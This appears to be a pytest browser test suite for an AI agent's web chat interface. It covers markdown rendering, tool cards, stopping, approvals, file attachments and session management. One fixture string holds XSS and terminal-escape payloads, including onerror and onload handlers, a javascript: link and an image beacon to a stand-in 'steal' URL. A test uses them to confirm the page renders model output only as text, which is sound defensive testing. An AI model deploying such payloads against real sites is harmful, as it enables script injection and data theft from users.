"""The page: talking, watching, answering, stopping, going back."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from operant.kernel.log import Stamp
from operant.kernel.records import TaskChanged
from operant.sdk.testing.server import ScriptedServer
from operant.sdk.testing.wires.pictures import picture
from tests.journey.browser import Watched, browsing, needs_browser
from tests.journey.gateway import Served, served

pytestmark = [needs_browser, pytest.mark.slow, pytest.mark.xdist_group("browser")]

MARKDOWN = """# Plan

A list:

- one **bold** thing
- `code` and a [link](https://example.org/x)

| file | lines |
|---|---:|
| a.py | 12 |

```python
def hello(name: str) -> str:
    return f"hi {name}"  # greet
```
"""
HOSTILE = """<img src=x onerror="document.title='owned'"> <script>document.title='owned'</script>

[click](javascript:document.title='owned') ![pixel](http://127.0.0.1:9/steal?d=CANARY)

<iframe src="http://127.0.0.1:9/"></iframe> <svg onload="document.title='owned'"></svg>

\x1b]8;;http://evil\x07osc\x1b]8;;\x07 \x1b]52;c;AAAA\x07
"""
SCRIPT: dict[str, Any] = {
    "markdown": [{"text": MARKDOWN, "chunks": 8}],
    "hostile": [{"text": HOSTILE}],
    "slow": [{"text": "word " * 200, "chunks": 200, "chunk_delay_ms": 40}],
    "quick": [{"text": "Quick answer."}],
    "second": [{"text": "Second answer."}],
    "tools": [
        {"calls": [{"name": "write_file", "arguments": {"path": "a.txt", "content": "one\ntwo\nthree\n"}}]},
        {"calls": [{"name": "edit_file", "arguments": {"path": "a.txt", "old": "two", "new": "TWO"}}]},
        {"calls": [{"name": "shell", "arguments": {"command": "cat a.txt; echo done"}}]},
        {"calls": [{"name": "read_file", "arguments": {"path": "missing.txt"}}]},
        {"text": "All of it is done."},
    ],
    "live": [
        {"calls": [{"name": "shell", "arguments": {"command": "for i in 1 2 3; do echo line $i; done; sleep 30"}}]},
        {"text": "Ended."},
    ],
    "ask": [
        {"calls": [{"name": "shell", "arguments": {"command": "echo sec\u200bret"}}]},
        {"text": "It ran or it did not."},
    ],
    "give": [
        {"calls": [{"name": "use_tool", "arguments": {"name": "spawn_agent", "arguments": {"tasks": ["@ask"]}}}]},
        {"text": "It was given."},
    ],
    "steer": [{"calls": [{"name": "shell", "arguments": {"command": "sleep 1.5"}}]}, {"text": "Then this."}],
}


@pytest.fixture
async def server() -> AsyncIterator[ScriptedServer]:
    made = ScriptedServer(SCRIPT)
    async with made.serving():
        yield made


@pytest.fixture
async def house(tmp_path: Path, server: ScriptedServer) -> AsyncIterator[Served]:
    freely: dict[str, object] = {"agents": {"operant": {"approval": {"*": "allow"}}}}
    async with served(tmp_path / "home", server, freely) as made:
        yield made


@pytest.fixture
async def page(house: Served) -> AsyncIterator[Watched]:
    async with browsing(f"{house.url}/#login={await house.login_code()}") as watched:
        await watched.page.get_by_label("Message", exact=True).wait_for()
        yield watched


async def test_a_link_lets_in_once(house: Served) -> None:
    code = await house.login_code()
    async with browsing(f"{house.url}/#login={code}") as first:
        await first.page.get_by_text("What shall be done?").wait_for()
        assert "login=" not in first.page.url
    async with browsing(f"{house.url}/") as stranger:
        stranger.expected.append("401")
        await stranger.page.get_by_text("This browser is not logged in").wait_for()
        await stranger.picture("login")
        await stranger.page.get_by_label("Or paste a link").fill(f"{house.url}/#login={code}")
        await stranger.page.get_by_role("button", name="Log in").click()
        await stranger.page.get_by_role("alert").get_by_text("not valid").wait_for()
        await stranger.page.get_by_label("Or paste a link").fill(house.token)
        await stranger.page.get_by_role("button", name="Log in").click()
        await stranger.page.get_by_text("What shall be done?").wait_for()
        stranger.complaints.clear()  # the browser says every 401 by itself


async def test_markdown_streams_and_code_has_colours(page: Watched) -> None:
    await page.say("@markdown please")
    view = page.page
    await view.get_by_role("heading", name="Plan").wait_for()
    await view.get_by_role("cell", name="12").wait_for()
    assert await view.locator(".hl-keyword", has_text="def").count() == 1
    assert await view.locator(".hl-comment").inner_text() == "# greet"
    link = view.get_by_role("link", name="link", exact=True)
    assert await link.get_attribute("rel") == "noopener noreferrer"
    await view.locator(".md .code").get_by_role("button", name="Copy").click()
    assert "def hello" in await view.evaluate("navigator.clipboard.readText()")
    await view.get_by_text("1 step").wait_for()
    await page.picture("chat-markdown")
    await view.reload()
    await view.get_by_role("heading", name="Plan").wait_for()
    assert await view.locator(".said").count() == 1


async def test_a13_a14_what_a_model_writes_is_only_text(page: Watched) -> None:
    await page.say("@hostile now")
    view = page.page
    await view.get_by_text("onerror=").wait_for()
    assert await view.title() != "owned"
    assert await view.locator(".turn img, .turn iframe, .turn script").count() == 0
    assert await view.locator('a[href^="javascript"]').count() == 0
    await view.get_by_text("[image: pixel").wait_for()
    assert not [asked for asked in page.asked if "CANARY" in asked or ":9/" in asked]


async def test_tools_are_cards_with_changes_and_outcomes(page: Watched) -> None:
    await page.say("@tools go")
    view = page.page
    await view.get_by_text("All of it is done.").wait_for()
    cards = view.locator("details.tool")
    assert await cards.count() == 4
    await cards.nth(1).locator("summary").click()
    assert await cards.nth(1).locator(".line-minus").inner_text() == "- two"
    assert await cards.nth(1).locator(".line-plus").inner_text() == "+ TWO"
    await cards.nth(2).locator("summary").click()
    await cards.nth(2).get_by_text("done").last.wait_for()
    assert await cards.nth(3).get_by_label("failed").count() == 1
    assert re.search(r"\d+ (ms|s)|<1 ms", await cards.nth(2).locator(".tool-time").inner_text())
    await page.picture("chat-tools")


async def test_output_is_seen_while_it_runs_and_escape_stops_it(page: Watched) -> None:
    await page.say("@live go")
    view = page.page
    await view.locator(".output.live").get_by_text("line 3").wait_for()
    await page.picture("chat-live")
    await view.keyboard.press("Escape")
    await view.locator(".turn-foot .tag", has_text="stopped").wait_for()
    await page.say("@quick again")
    await view.get_by_text("Quick answer.").wait_for()


async def test_stop_ends_a_stream(page: Watched) -> None:
    await page.say("@slow go")
    view = page.page
    await view.locator(".answer.streaming").wait_for()
    await view.get_by_role("button", name="Stop").click()
    await view.locator(".turn-foot .tag", has_text="stopped").wait_for()


async def test_files_come_by_button_paste_and_drop(page: Watched, server: ScriptedServer, tmp_path: Path) -> None:
    view = page.page
    red = tmp_path / "red.png"
    red.write_bytes(picture("red"))
    await view.locator('input[type="file"]').set_input_files(red)
    await view.get_by_label("Attached").get_by_text("red.png").wait_for()
    give = """([kind, name]) => {
      const data = new DataTransfer();
      data.items.add(new File(["some words"], name, { type: "text/plain" }));
      const how = { bubbles: true, cancelable: true };
      const event = kind === "paste" ? new ClipboardEvent("paste", { clipboardData: data, ...how })
        : new DragEvent("drop", { dataTransfer: data, ...how });
      document.querySelector("#message").dispatchEvent(event);
    }"""
    await view.evaluate(give, ["paste", "pasted.txt"])
    await view.evaluate(give, ["drop", "dropped.txt"])
    for name in ("pasted.txt", "dropped.txt"):
        await view.get_by_label("Attached").get_by_text(name).wait_for()
    await view.get_by_role("button", name="Remove pasted.txt").click()
    await view.get_by_text("10 B").wait_for()
    await page.say("@quick look at these")
    await view.get_by_text("Quick answer.").wait_for()
    await view.locator(".said .picture img").wait_for()
    await view.wait_for_function("() => document.querySelector('.said .picture img').naturalWidth === 16")
    assert await view.locator(".said .file").count() == 1
    assert "image_url" in str(server.requests[-1].body)


async def test_a_message_can_be_said_again_in_other_words(page: Watched, house: Served) -> None:
    view = page.page
    await page.say("@quick first")
    await view.get_by_text("Quick answer.").wait_for()
    before = view.url
    await view.locator(".said").hover()
    await view.get_by_role("button", name="Edit and send again").click()
    await view.get_by_label("Say it differently").fill("@second instead")
    await view.locator(".said.editing").get_by_role("button", name="Send").click()
    await view.get_by_text("Second answer.").wait_for()
    assert view.url != before
    assert await view.get_by_text("Quick answer.").count() == 0
    assert len((await house.get("/api/sessions"))["sessions"]) == 2
    await view.goto(before)
    await view.get_by_text("Quick answer.").wait_for()
    await view.get_by_role("button", name="Answer again").click()
    await view.wait_for_url(lambda url: url != before)
    await view.get_by_text("Quick answer.").wait_for()
    assert len((await house.get("/api/sessions"))["sessions"]) == 3


async def test_what_is_said_meanwhile_joins_the_work_or_waits(page: Watched, server: ScriptedServer) -> None:
    view = page.page
    await page.say("@steer go")
    await view.locator(".tool.running").wait_for()
    await page.say("joins in")
    await view.get_by_label("Message", exact=True).fill("@second waits")
    await view.keyboard.press("Alt+Enter")
    await view.locator(".later", has_text="@second waits").wait_for()
    await page.picture("chat-queue")
    await view.get_by_text("Second answer.").wait_for()
    assert await view.locator(".turn-foot").count() == 2
    assert await view.locator(".said").count() == 3
    said = [one["content"] for one in server.requests[1].body["messages"] if one["role"] == "user"]
    assert any("joins in" in str(one) for one in said)


async def test_a_question_shows_exactly_what_will_run(tmp_path: Path, server: ScriptedServer) -> None:
    more: dict[str, object] = {"agents": {"operant": {"approval": {"shell": "ask"}}}}
    async with (
        served(tmp_path / "asking", server, more) as house,
        browsing(f"{house.url}/#login={await house.login_code()}") as page,
    ):
        view = page.page
        await page.say("@ask one")
        card = view.locator(".approval")
        await card.locator("pre", has_text="echo sec\\u{200b}ret").wait_for()
        await view.locator(".places .badge").get_by_text("1").wait_for()
        await page.picture("chat-approval")
        await view.reload()
        await card.locator("pre", has_text="echo sec\\u{200b}ret").wait_for()
        await card.get_by_label("Why, or what instead").fill("not now")
        await card.get_by_role("button", name="Deny").click()
        await view.get_by_text("Denied: shell — not now").wait_for()
        await view.get_by_text("It ran or it did not.").wait_for()
        await page.say("@ask two")
        await card.wait_for()
        await page.go("approvals")
        await view.get_by_role("button", name="Allow once").click()
        await view.get_by_text("Nothing waits for you").wait_for()
        await view.go_back()
        await view.get_by_text("Allowed: shell").wait_for()
        await page.say("@give three")
        await card.locator("pre", has_text="echo sec\\u{200b}ret").wait_for()
        await view.reload()
        await card.get_by_role("button", name="Deny").click()
        await view.get_by_text("Denied: shell").last.wait_for()
        await view.get_by_text("It was given.").wait_for()
        await view.locator(".sessions .below", has_text="@ask").wait_for()
        await page.go("new")
        await view.locator(".sessions .below").wait_for(state="detached")


async def test_deep_work_shows_its_tasks_and_budget(page: Watched, house: Served) -> None:
    view = page.page
    await view.get_by_role("button", name="Deep work").click()
    await page.say("@slow go")
    await view.locator(".tasks", has_text="of 25 steps").wait_for()
    key = (await house.get("/api/sessions"))["sessions"][0]["session_id"]
    history = house.system.kernel.log.history(key)
    turn = (await house.get(f"/api/sessions/{key}/turns"))["turns"][0]["turn"]
    await history.append(
        Stamp(turn=turn),
        TaskChanged(id="1", title="Collect", state="done"),
        TaskChanged(id="2", title="Compare", state="active"),
        TaskChanged(id="3", title="Prices", parent="2"),
    )
    await view.locator(".tasks li", has_text="Compare").get_by_text("Prices").wait_for()
    await view.get_by_text("1 of 3 tasks").wait_for()
    await page.picture("chat-deep")
    tasks = await house.get(f"/api/sessions/{key}/tasks")
    assert (tasks["mode"], tasks["summary"]) == ("deep_work", "1 of 3 done")
    await view.keyboard.press("Escape")
    await view.locator(".turn-foot .tag", has_text="stopped").wait_for()


async def test_sessions_are_found_renamed_archived_and_deleted(page: Watched) -> None:
    view = page.page
    await page.say("@quick about elephants")
    await view.get_by_text("Quick answer.").wait_for()
    row = view.get_by_role("list", name="Sessions").get_by_role("listitem")
    await row.first.hover()
    await row.get_by_role("button", name="More for").click()
    await view.get_by_role("menuitem", name="Rename").click()
    await view.get_by_label("Title").fill("Big animals")
    await view.keyboard.press("Enter")
    await row.get_by_text("Big animals").wait_for()
    await view.get_by_role("searchbox", name="Search sessions").fill("elephants")
    await view.get_by_role("list", name="Found").get_by_role("link").first.click()
    await view.locator(".said.found").wait_for()
    await view.get_by_role("searchbox", name="Search sessions").fill("")
    await row.first.hover()
    await row.get_by_role("button", name="More for").click()
    async with view.expect_download() as download:
        await view.get_by_role("menuitem", name="Export").click()
    assert (await download.value).suggested_filename.endswith(".json")
    await row.first.hover()
    await row.get_by_role("button", name="More for").click()
    await view.get_by_role("menuitem", name="Archive").click()
    await view.get_by_text("No sessions yet").wait_for()
    await view.get_by_role("button", name="Archive").click()
    archived = view.get_by_role("list", name="Archived sessions").get_by_role("listitem")
    await archived.first.hover()
    await archived.get_by_role("button", name="More for").click()
    await view.get_by_role("menuitem", name="Delete").click()
    await view.get_by_role("dialog").get_by_role("button", name="Delete").click()
    await view.get_by_text("Nothing is archived.").wait_for()


async def test_two_windows_see_the_same(page: Watched, house: Served) -> None:
    await page.say("@quick hello")
    await page.page.get_by_text("Quick answer.").wait_for()
    place = page.page.url.partition("#")[2]
    async with browsing(f"{house.url}/#login={await house.login_code()}") as other:
        await other.page.get_by_label("Message", exact=True).wait_for()
        await other.page.evaluate("(place) => { location.hash = place }", place)
        await other.page.get_by_text("Quick answer.").wait_for()
        await other.say("@second from here")
        await page.page.get_by_text("Second answer.").wait_for()
        assert await page.page.locator(".said").count() == await other.page.locator(".said").count() == 2
